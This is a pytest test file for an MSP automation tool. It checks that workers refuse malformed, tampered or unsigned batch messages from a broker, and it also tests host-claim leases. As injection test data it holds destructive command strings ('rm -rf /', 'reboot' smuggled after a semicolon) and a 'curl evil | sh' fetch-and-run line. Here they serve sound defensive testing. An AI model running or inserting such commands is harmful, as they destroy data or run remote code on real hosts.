"""What a worker does with a batch message before anything runs: a message is data from
the broker, and whoever can publish there could send anything (issue 14)."""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor, wait
from pathlib import Path
from typing import Any

import pytest

from mspauto.config import Settings
from mspauto.distributed.jobs import Batch, BatchRefused, client_digest, run_batch
from mspauto.evidence.store import EvidenceStore
from mspauto.project import load_project

EXEC = {"kind": "exec", "command": "true", "sudo": False, "timeout": 5, "retries": 0, "forks": 5}
PATCH_SCAN = {
    "kind": "check",
    "check": "patch",
    "today": "2026-12-01",
    "now": "2026-12-01T10:00:00+00:00",
    "phase": "pre",
    "lock_timeout": 120,
    "sources": [],
}
PATCH_INSTALL = {
    "kind": "patch-install",
    "command": "patch install",
    "scans": {},
    "one_by_one": False,
    "lock_timeout": 120,
}


def _refusal(example_project: Path, tmp_path: Path, **changes: Any) -> str:
    project = load_project(Settings.load(example_project))
    acme = project.inventory.clients["acme"]
    message = Batch(
        "run-1", "acme", (sorted(acme.hosts)[0],), EXEC, client_digest(project, acme)
    ).message()
    message.update(changes)
    store = EvidenceStore(f"sqlite:///{tmp_path / 'evidence.db'}")
    try:
        with pytest.raises(BatchRefused) as refused:
            run_batch(Batch.read(message), project, store, lambda client, _site: client == "acme")
    finally:
        store.close()
    return str(refused.value)


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"version": 99}, "a batch message of version 99"),
        ({"hosts": 5}, "a malformed batch message"),
        ({"client": "globex"}, "this worker does not serve client 'globex'"),
        ({"digest": "0" * 64}, "this worker's project differs from the control node's"),
        ({"hosts": ["globex-web01"]}, "hosts not in client 'acme': globex-web01"),
        ({"job": {**EXEC, "kind": "shell"}}, "this worker cannot run jobs of kind 'shell'"),
        ({"job": {**EXEC, "timeout": "60; rm -rf /"}}, "a malformed batch message (timeout"),
        ({"job": {**EXEC, "forks": True}}, "a malformed batch message (forks True)"),
        ({"job": {**EXEC, "command": ["rm", "-rf"]}}, "(command is not text)"),
        (
            {"job": {"kind": "check", "check": "remediate", "timeout": 5, "forks": 5}},
            "this worker cannot run checks of kind 'remediate'",
        ),
        (
            {"job": {**PATCH_SCAN, "sources": ["0" * 64]}},
            "this worker's severity sources differ from the control node's",
        ),
        ({"job": {**PATCH_SCAN, "phase": "during"}}, "a malformed batch message (phase"),
        ({"job": {**PATCH_SCAN, "now": None}}, "a malformed batch message (now None)"),
        ({"job": {**PATCH_SCAN, "now": "2026-12-01T10:00"}}, "(now '2026-12-01T10:00')"),
        ({"job": {**PATCH_SCAN, "now": "yesterday"}}, "a malformed batch message"),
        ({"job": {**PATCH_SCAN, "sources": 5}}, "a malformed batch message (sources 5)"),
        (
            {"job": {**PATCH_SCAN, "kind": "change", "check": ["baseline"]}},
            "this worker makes no changes of kind ['baseline']",
        ),
        (
            {"job": {**PATCH_SCAN, "kind": "change", "check": "backup"}},
            "this worker makes no changes of kind 'backup'",
        ),
        (
            {"job": {**EXEC, "kind": "change", "check": "baseline", "today": "2026-12-01"}},
            "(before is not text)",
        ),
        ({"job": {**PATCH_SCAN, "lock_timeout": -1}}, "a malformed batch message (phase"),
        (
            {"job": {**PATCH_INSTALL, "scans": {}}},
            "a patch-install batch this worker cannot build: no recorded patch scan of",
        ),
        ({"job": {**PATCH_INSTALL, "scans": ["run-0"]}}, "scans is not a mapping"),
        ({"job": {**PATCH_INSTALL, "lock_timeout": "2; reboot"}}, "lock_timeout '2; reboot'"),
        (
            {"job": {**PATCH_INSTALL, "kind": "patch-reboot", "reboot_timeout": True}},
            "a patch-reboot batch this worker cannot build: reboot_timeout True",
        ),
    ],
)
def test_a_batch_the_worker_may_not_run_is_refused_in_one_line(
    example_project: Path, tmp_path: Path, changes: dict[str, Any], why: str
) -> None:
    assert why in _refusal(example_project, tmp_path, **changes)


def test_a_message_that_is_not_a_mapping_is_refused() -> None:
    with pytest.raises(BatchRefused, match="not a mapping"):
        Batch.read(["run-1", "acme"])


def test_a_host_another_delivery_is_running_is_left_to_it_until_its_lease_runs_out(
    example_project: Path, tmp_path: Path
) -> None:
    """A batch delivered twice at once (a broker that lost a live worker's connection):
    the second delivery never records a host the first is still running; it waits for
    the first's record, and calls the host lost only once its lease ran out."""
    from datetime import UTC, datetime, timedelta

    from mspauto.distributed.claims import HostClaims
    from mspauto.engine import Claim
    from mspauto.evidence.store import NewRecord

    project = load_project(Settings.load(example_project))
    web1, web2 = sorted(project.inventory.clients["acme"].hosts.values(), key=lambda h: h.name)[:2]
    store = EvidenceStore(f"sqlite:///{tmp_path / 'evidence.db'}")
    try:
        first, second = (
            HostClaims(store.engine, "run-1", owner, timedelta(seconds=2)) for owner in "ab"
        )
        assert first.take(web1) is Claim.MINE and first.take(web2) is Claim.MINE
        with ThreadPoolExecutor(1) as pool:
            waiting = pool.submit(second.take, web1)
            # Still waiting half a second on: the claim's holder has not let go.
            assert not wait([waiting], timeout=0.5).done  # the first delivery's lease holds
            store.append(
                [NewRecord("acme", "host_result", "run-1", datetime.now(UTC), {}, host=web1.name)]
            )
            assert waiting.result(timeout=10) is Claim.DONE  # its record came: left alone
        started = time.monotonic()
        assert second.take(web2) is Claim.LOST  # never recorded, lease expired
        assert time.monotonic() - started >= 1.0
        # The lost claim is now the second's: a third delivery, or the control node,
        # does not record the host too; the third waits for the second's record.
        third = HostClaims(store.engine, "run-1", "c", timedelta(seconds=2))
        assert HostClaims(store.engine, "run-1", "control:lost").take_lost([web2.name], "x") == []
        with ThreadPoolExecutor(1) as pool:
            waiting = pool.submit(third.take, web2)
            # Still waiting half a second on: the claim's holder has not let go.
            assert not wait([waiting], timeout=0.5).done
            store.append(
                [NewRecord("acme", "host_result", "run-1", datetime.now(UTC), {}, host=web2.name)]
            )
            assert waiting.result(timeout=10) is Claim.DONE
        # The first worker, back after its lease ran out, finds web2 is no longer its
        # own to record; a host nobody took (it never started) is taken when recorded.
        assert not first.keep(web2) and first.keep(web1)
        web3 = sorted(project.inventory.clients["acme"].hosts.values(), key=lambda h: h.name)[2]
        assert first.keep(web3) and not second.keep(web3) and first.keep(web3)
    finally:
        store.close()


def test_a_worker_that_knows_the_msps_key_runs_only_batches_it_signed(tmp_path: Path) -> None:
    """Whoever can publish to the broker cannot send work to such a worker: an unsigned
    batch, one signed by another key, and a signed one changed afterwards are refused."""
    from mspauto.signing import SigningKey, generate_key

    keys = []
    for name in ("msp", "other"):
        generate_key(tmp_path / name, tmp_path / f"{name}.pub", comment=name)
        keys.append(SigningKey.load(tmp_path / name))
    msp, other = keys
    batch = Batch("run-1", "acme", ("web1",), EXEC, "0" * 64)
    assert Batch.read(batch.message(msp), msp.public_key) == batch
    assert Batch.read(batch.message(), None) == batch  # a worker without any key
    changed = {**batch.message(msp), "job": {**EXEC, "command": "curl evil | sh"}}
    for message in (batch.message(), batch.message(other), changed):
        with pytest.raises(BatchRefused, match="not signed by the MSP's key"):
            Batch.read(message, msp.public_key)
